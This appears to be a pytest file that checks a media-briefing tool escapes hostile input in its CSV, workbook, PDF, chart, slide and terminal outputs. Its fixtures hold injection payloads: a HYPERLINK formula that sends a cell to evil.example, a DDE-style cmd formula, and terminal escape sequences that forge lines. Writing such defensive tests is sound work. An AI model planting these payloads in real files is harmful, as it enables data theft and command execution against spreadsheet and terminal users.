"""Untrusted text reaching other programs: spreadsheets, HTML, the PDF's layout, charts and the terminal.

One hostile corpus (the seeds with formula-like metadata, control characters, a 100,000-character
title and outlet and a 40,000-character token inside a quote two outlets share) goes through the
real CLI once; the tests read what it wrote.
"""

from __future__ import annotations

import contextlib
import csv
import io
import re
import time
from pathlib import Path
from xml.dom import minidom

import openpyxl
import pandas as pd
import pytest
from markupsafe import Markup
from pptx import Presentation
from pypdf import PdfReader

from mediabrief.briefing.display import (BREAK, MAX_RUN, MAX_SHOWN, MAX_TITLE, break_runs, finalize_briefing,
                                         finalize_page, shown_text)
from mediabrief.briefing.document import default_templates_dir
from mediabrief.briefing.pdf_render import overflowing_boxes, render_document
from mediabrief.cli import main
from mediabrief.tables.files import csv_bytes
from mediabrief.tables.workbook import spreadsheet_text, workbook_bytes

from .conftest import SEEDS, copy_seeds

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
TITLE = "Hostile briefing " + "T" * 100_000
TOKEN = "x" * 40_000
RENAMED = "-2+3 002_d8d2b04289501053.txt"
SKIPPED = "notes\x1b]0;pwned\x07\x1b[2J\rforged.txt"  # one line: skipped, its name printed
HOSTILE = {  # metadata.csv row -> column -> value
    0: {"title": '=HYPERLINK("http://evil.example/?x="&A1,"click") ' + "T" * 100_000, "outlet": "$x^{$",
        "author": "@SUM(A1)"},
    1: {"title": "Summit\rforged line\x00 with\x1b[31m red", "outlet": "+1 Outlet\x1b[2J\x1b]0;pwned\x07",
        "author": "-2+3"},
    2: {"title": "\t@tab title", "file": RENAMED},
    3: {"outlet": "=1+2" + "O" * 100_000},
}
NUMBER = re.compile(r"-?(\d+(\.\d*)?|\.\d+)(e[-+]?\d+)?|-?inf")


def hostile_folder(folder: Path) -> Path:
    copy_seeds(folder)
    rows = list(csv.DictReader((folder / "metadata.csv").open(encoding="utf-8", newline="")))
    for number, values in HOSTILE.items():
        if "file" in values:
            (folder / rows[number]["file"]).rename(folder / values["file"])
        rows[number].update(values)
    with (folder / "metadata.csv").open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    # John Kirby's statement, in two outlets: the briefing shows it side by side, the token inside.
    for name in ("001_82387e096d30deb5.txt", RENAMED):
        path = folder / name
        path.write_text(path.read_text("utf-8").replace("innocent Ukrainians", f"innocent {TOKEN} Ukrainians"),
                        "utf-8")
    (folder / SKIPPED).write_text("One line only\n", "utf-8")
    return folder


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """`mediabrief report` on the hostile corpus through the real CLI, its printed lines and its time."""
    root = tmp_path_factory.mktemp("hostile")
    folder = hostile_folder(root / "articles")
    out, figures = root / "out", root / "figures"
    printed = io.StringIO()
    started = time.monotonic()
    with contextlib.redirect_stdout(printed), contextlib.redirect_stderr(printed):
        code = main(["report", str(folder), "--out", str(out), "--figures", str(figures), "--title", TITLE,
                     "--cache-dir", str(root / "cache")])
    return {"code": code, "seconds": time.monotonic() - started, "printed": printed.getvalue(), "root": root,
            "folder": folder, "out": out, "figures": figures}


def is_number(cell: str) -> bool:
    return bool(NUMBER.fullmatch(cell))


# ---- spreadsheets: CSV and tables.xlsx ---------------------------------------------------------------

def test_no_csv_cell_starts_a_formula_and_each_article_is_one_row(hostile):
    assert hostile["code"] == 0
    for path in sorted(hostile["out"].glob("*.csv")):
        rows = list(csv.reader(path.open(encoding="utf-8", newline="")))
        cells = [cell for row in rows for cell in row]
        assert not [c[:40] for c in cells if c.startswith(FORMULA_STARTS) and not is_number(c)], path.name
        assert not any(CONTROL.search(cell) for cell in cells), path.name
    articles = list(csv.DictReader((hostile["out"] / "articles.csv").open(encoding="utf-8", newline="")))
    assert len(articles) == 4  # a CR or NUL in a title splits no row
    by_author = {row["author"]: row for row in articles}
    assert {"'@SUM(A1)", "'-2+3"} <= set(by_author)
    assert by_author["'@SUM(A1)"]["title"].startswith("'=HYPERLINK(")
    assert "'" + RENAMED in {row["article_id"] for row in articles}
    assert "'+1 Outlet" in {row["outlet"][:10] for row in articles}


def test_no_workbook_cell_starts_a_formula(hostile):
    book = openpyxl.load_workbook(hostile["out"] / "tables.xlsx")
    texts = [cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
             if isinstance(cell.value, str)]
    assert not [t[:40] for t in texts if t.startswith(FORMULA_STARTS)]
    assert "'@SUM(A1)" in texts and not any(CONTROL.search(t) for t in texts)


def test_parquet_keeps_the_raw_values(hostile):
    pytest.importorskip("pyarrow")
    out = hostile["root"] / "parquet"
    assert main(["analyze", str(hostile["folder"]), "--out", str(out), "--format", "parquet", "--no-workbook",
                 "--cache-dir", str(hostile["root"] / "cache"), "--quiet"]) == 0
    articles = pd.read_parquet(out / "articles.parquet")
    assert {"@SUM(A1)", "-2+3"} <= set(articles["author"])
    assert RENAMED in set(articles["article_id"])
    assert any(title.startswith("=HYPERLINK(") for title in articles["title"])


@pytest.mark.parametrize(("value", "expected"), [
    ("=SUM(A1)", "'=SUM(A1)"), ("+1", "'+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\n=1"), ("\x00=1", "'=1"), ("a\rb\x00c\x1b[2J", "a\nbc[2J"),
    ("Kim = Putin", "Kim = Putin"), ("", ""), (-3, -3), (2.5, 2.5), (None, None),
])
def test_spreadsheet_text(value, expected):
    assert spreadsheet_text(value) == expected


def test_numbers_stay_numbers_and_text_cells_are_escaped_in_csv_and_workbook():
    frame = pd.DataFrame({"article_id": ["=a.txt", "b.txt"], "start": [-3, 4], "share": [-0.5, 1.0],
                          "text": ["-2+3", "line\rbreak\x00"]})
    rows = list(csv.reader(io.StringIO(csv_bytes(frame).decode("utf-8"))))
    assert rows == [["article_id", "start", "share", "text"], ["'=a.txt", "-3", "-0.5", "'-2+3"],
                    ["b.txt", "4", "1.0", "line\nbreak"]]
    sheet = openpyxl.load_workbook(io.BytesIO(workbook_bytes([("quotes", frame)])))["quotes"]
    assert list(sheet.iter_rows(min_row=2, values_only=True)) == [("'=a.txt", -3, -0.5, "'-2+3"),
                                                                  ("b.txt", 4, 1, "line\nbreak")]


def test_a_metadata_column_named_like_a_formula_is_escaped_in_its_header():
    frame = pd.DataFrame({"article_id": ["a.txt"], "=cmd|'/C calc'!A0": ["x"]})
    assert csv_bytes(frame).decode("utf-8").splitlines()[0] == "article_id,'=cmd|'/C calc'!A0"


# ---- HTML and PDF ------------------------------------------------------------------------------------

def squeeze(text: str) -> str:
    return "".join(text.replace(BREAK, "").split())


def test_the_briefing_finishes_in_linear_time_and_shows_the_start_of_the_title(hostile):
    assert hostile["code"] == 0
    assert hostile["seconds"] < 60  # a generous bound: weasyprint took minutes on the long runs
    reader = PdfReader(str(hostile["out"] / "briefing.pdf"))
    text = squeeze("\n".join(page.extract_text() or "" for page in reader.pages))
    assert "HostilebriefingTTTT" in text
    assert "T" * (MAX_TITLE + 1) not in text and "O" * (MAX_RUN + 1) not in text
    assert "xxxxxxxxxx" in text and "x" * (MAX_RUN + 1) not in text  # the token, cut, in Kirby's quote
    assert "$x^{$" in text and "=HYPERLINK(" in text


def test_the_briefing_html_and_companion_carry_no_control_characters(hostile):
    html = (hostile["out"] / "briefing.html").read_text("utf-8")
    page = (hostile["out"] / "companion.html").read_text("utf-8")
    assert not CONTROL.search(html) and not CONTROL.search(page)
    assert "Summit" in page
    assert TOKEN in page  # the companion keeps every text whole; only the briefing bounds it
    assert TOKEN[: MAX_RUN + 1] not in html


def test_the_hostile_briefing_lays_out_without_overflow(hostile):
    html = (hostile["out"] / "briefing.html").read_text("utf-8")
    document = render_document(html, base_dir=hostile["out"],
                               allowed_roots=(default_templates_dir(), hostile["figures"]))
    assert overflowing_boxes(document) == []


def test_the_hostile_charts_are_drawn(hostile):
    svgs = {path.stem: path.read_text("utf-8") for path in hostile["figures"].glob("*.svg")}
    assert {path.stem for path in hostile["figures"].glob("*.png")} == set(svgs) and len(svgs) >= 5
    assert ">$x^{$</text>" in svgs["words_per_source"]
    for svg in svgs.values():
        minidom.parseString(svg)  # well-formed XML


def test_control_characters_in_chart_labels_leave_valid_svg(tmp_path):
    from dataclasses import replace

    from mediabrief.charts.draw import draw_charts, save_charts
    from mediabrief.charts.plan import plan_charts
    from mediabrief.compare.comparisons import build_comparisons
    from mediabrief.pipeline import analyze
    from mediabrief.settings import Settings
    from mediabrief.tables.build import build_tables

    analyses = analyze([SEEDS], Settings(quiet=True, cache_dir=tmp_path / "cache")).analyses
    outlets = ["Bell\x07 \x1b[2JNews", "Null\x00 Times", "Plain", "Plain"]
    analyses = [replace(a, article=replace(a.article, outlet=o)) for a, o in zip(analyses, outlets)]
    tables = build_tables(analyses)
    charts = draw_charts(plan_charts(tables, build_comparisons(tables, analyses)))
    for path in save_charts(charts, tmp_path / "figures"):
        if path.suffix == ".svg":
            text = path.read_text("utf-8")
            minidom.parseString(text)
            assert not CONTROL.search(text), path.name
    labels = [t.get_text() for t in charts[0].figure.axes[0].get_yticklabels()]
    assert "Bell [2JNews" in labels and "Null Times" in labels


@pytest.mark.parametrize(("text", "shown"), [
    ("plain words stay as they are", "plain words stay as they are"),
    ("a\x00b\x1b[2Jc\rd", "ab[2Jc\nd"),
    ("y" * 70, BREAK.join(["y" * 30, "y" * 30, "y" * 10])),
    ("z" * 40_000, BREAK.join(["z" * 30, "z" * 30, "z" * 19 + "…"])),
])
def test_shown_text(text, shown):
    assert shown_text(text) == shown
    assert break_runs(shown) == shown  # a second pass changes nothing


def test_shown_text_is_bounded():
    long = "word " * 100_000
    assert len(shown_text(long)) == MAX_SHOWN and shown_text(long).endswith("…")
    assert len(shown_text(long, MAX_TITLE)) == MAX_TITLE


def test_finalize_leaves_markup_and_numbers_alone():
    made = Markup("<ins>x\x00</ins>")
    assert finalize_briefing(made) is made and finalize_page(made) is made
    assert finalize_briefing(12) == 12 and finalize_page(None) is None
    assert finalize_page("a\x1bb" + "c" * 100) == "ab" + "c" * 100  # the companion keeps the length


# ---- the slides and the terminal ---------------------------------------------------------------------

def test_the_slides_carry_no_control_characters_and_a_bounded_title(hostile):
    out = hostile["root"] / "slides"
    assert main(["slides", str(hostile["folder"]), "--out", str(out), "--figures", str(hostile["root"] / "sf"),
                 "--title", TITLE, "--cache-dir", str(hostile["root"] / "cache"), "--quiet"]) == 0
    deck = Presentation(str(out / "briefing.pptx"))
    texts = [paragraph.text for slide in deck.slides for shape in slide.shapes if shape.has_text_frame
             for paragraph in shape.text_frame.paragraphs]
    texts += [cell.text for slide in deck.slides for shape in slide.shapes if shape.has_table
              for row in shape.table.rows for cell in row.cells]
    assert texts[0].startswith("Hostile briefing TTT") and len(texts[0]) <= 100  # the title slide's title
    assert not any(CONTROL.search(text) or "_x001B_" in text for text in texts)
    assert all(len(text) <= MAX_SHOWN for text in texts)
    assert not any("O" * (MAX_RUN + 1) in text or "x" * (MAX_RUN + 1) in text for text in texts)


def test_printed_lines_cannot_move_the_cursor_or_forge_a_line(hostile):
    lines = hostile["printed"].splitlines()
    assert not CONTROL.search(hostile["printed"])
    skipped = [line for line in lines if line.startswith("mediabrief: skipped ")]
    assert len(skipped) == 1 and "notes?]0;pwned??[2J?forged.txt" in skipped[0]
    assert all(line.startswith(("mediabrief: ", "Analysed ", "  ")) for line in lines), lines


def test_an_error_message_names_a_hostile_path_on_one_line(tmp_path, capsys):
    missing = tmp_path / "gone\x1b[2J\rmediabrief: all fine\nreally"
    assert main(["analyze", str(missing), "--out", str(tmp_path / "out"), "--quiet"]) == 2
    error = capsys.readouterr().err
    assert error.count("\n") == 1 and not CONTROL.search(error) and "gone?[2J?mediabrief: all fine?really" in error
